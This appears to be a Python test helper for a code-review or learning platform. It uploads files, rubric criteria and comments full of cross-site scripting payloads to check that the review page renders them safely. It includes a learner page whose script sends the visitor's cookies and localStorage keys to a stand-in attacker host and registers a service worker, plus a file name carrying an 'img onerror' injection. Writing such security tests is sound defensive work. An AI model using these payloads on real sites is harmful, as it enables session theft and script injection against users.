"""A submission with all payloads in it, and how all of a file is brought into view."""

from __future__ import annotations

from typing import TYPE_CHECKING

from platform_server.review.rubric import MAX_CRITERIA, MAX_TITLE
from platform_server.testing.payloads import EVIL, VECTORS, files, notebooks

if TYPE_CHECKING:
    from platform_server.testing.serving import Person

# Shows all of a file: frames are made when they come near to what is seen.
SCROLL = """async () => {
  const main = document.querySelector('.platform-Submission-main');
  const drawn = () => new Promise(done => requestAnimationFrame(() => done()));
  const missing = () =>
    [...main.querySelectorAll('.platform-Frame')].find(one => !one.querySelector('iframe'));
  for (let tries = 0; missing() && tries < 1000; tries++) {
    missing().scrollIntoView();
    await drawn();
    await drawn();
  }
  return main.querySelectorAll('.platform-Frame').length;
}"""

# A page of the learner's, opened by itself: what it could take, keep and leave behind.
TAKING = f"""<!doctype html><title>still</title><script>
document.title = 'fired';
fetch('{EVIL}/' + document.cookie + Object.keys(localStorage));
navigator.serviceWorker.register('worker.js');
</script>"""


async def rubric_with_payloads(maker: Person, project: str) -> int:
    """Give points for payloads; returns how many there are."""
    criteria = [
        {
            "id": f"c{number}",
            "title": vector[:MAX_TITLE],
            "text": vector,
            "points": 1,
            "levels": [{"points": 1, "text": vector}],
        }
        for number, vector in enumerate(VECTORS[:MAX_CRITERIA])
    ]
    answer = await maker.http.put(f"/api/projects/{project}/rubric", json={"criteria": criteria})
    assert answer.status_code == 200, answer.text
    return 3 * len(criteria)


async def submission_with_payloads(maker: Person) -> tuple[str, list[str], int]:
    """Submit all of them, and say them too; returns its id, the paths, and how many there are."""
    project = await maker.project("payloads")
    paths, count = [], 0
    for path, data, payloads in (*notebooks(), *files()):
        url = f"/api/projects/{project['id']}/files/{path}"
        answer = await maker.http.put(url, content=data)
        assert answer.status_code == 201, answer.text
        paths.append(path)
        count += payloads
    taking = f"/api/projects/{project['id']}/files/taking.html"
    await maker.http.put(taking, content=TAKING.encode())
    odd = "<img src=x onerror=alert(1)>.txt"
    await maker.http.put(f"/api/projects/{project['id']}/files/{odd}", content=b"x")
    count += await rubric_with_payloads(maker, project["id"])
    made = await maker.http.post(
        f"/api/projects/{project['id']}/submissions", json={"message": VECTORS[4]}
    )
    comments = f"/api/submissions/{made.json()['id']}/comments"
    for vector in VECTORS:
        body = {"path": "code.ipynb", "body": vector, "anchor": {"cell_id": "c1", "line": 1}}
        answer = await maker.http.post(comments, json=body | {"suggestion": vector})
        assert answer.status_code == 201, answer.text
        count += 1
    return str(made.json()["id"]), [*paths, odd], count
